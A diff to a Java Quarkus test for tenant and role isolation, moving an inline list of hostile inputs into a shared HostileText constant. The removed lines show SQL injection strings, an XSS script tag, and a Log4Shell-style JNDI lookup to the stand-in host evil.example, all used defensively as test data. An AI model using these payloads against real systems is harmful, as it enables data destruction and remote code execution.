@@ -17,6 +17,7 @@ import io.quarkus.test.common.WithTestResource;
 import io.quarkus.test.junit.QuarkusTest;
 import org.dialoog.engagement.Api;
 import org.dialoog.local.DialoogTestResource;
+import org.dialoog.local.HostileText;
 import org.junit.jupiter.api.Test;
 
 /** Clients see only their own engagements, tenants never meet, and hostile text is just text. */
@@ -25,13 +26,7 @@ import org.junit.jupiter.api.Test;
         initArgs = @ResourceArg(name = "service", value = "engagement"))
 class TenantAndRoleIsolationTest {
 
-    private static final List<String> HOSTILE = List.of(
-            "'; DROP TABLE engagement; --",
-            "\" OR 1=1 --",
-            "<script>alert('x')</script>",
-            "${jndi:ldap://evil.example/a}",
-            "Robert'); DELETE FROM participant WHERE ('1'='1",
-            "%' OR title LIKE '%");
+    private static final List<String> HOSTILE = HostileText.SAMPLES;
 
     @Test
     void aClientSeesOnlyTheEngagementsItIsAContactOf() {
